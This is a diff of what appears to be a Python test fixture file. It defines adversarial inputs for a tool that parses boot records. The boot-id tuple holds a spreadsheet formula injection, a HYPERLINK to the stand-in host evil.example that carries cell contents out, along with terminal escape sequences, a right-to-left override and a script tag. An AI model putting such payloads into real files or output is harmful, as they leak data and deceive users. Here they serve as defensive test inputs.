@@ -39,7 +39,7 @@ ROWS = {
     'a long text': {'counters': '{"cpus":1,"zero":"d' + 'x' * 1_200_000 + '"}'},
 }
 #: boot ids that are none
-BOOTS = ('=HYPERLINK("http://evil.example/?"&A1,"ok")\x1b]0;owned\x07\x1b[2J\u202e', '<script>', 'a' * 65, '')
+BOOTS = ('-1', '=HYPERLINK("http://evil.example/?"&A1,"ok")\x1b]0;owned\x07\x1b[2J\u202e', '<script>', 'a' * 65, '')
 #: what else the file may be
 SCHEMAS = {
     'view-forever': ('ALTER TABLE boot RENAME TO b', f'CREATE VIEW boot AS {ENDLESS} '
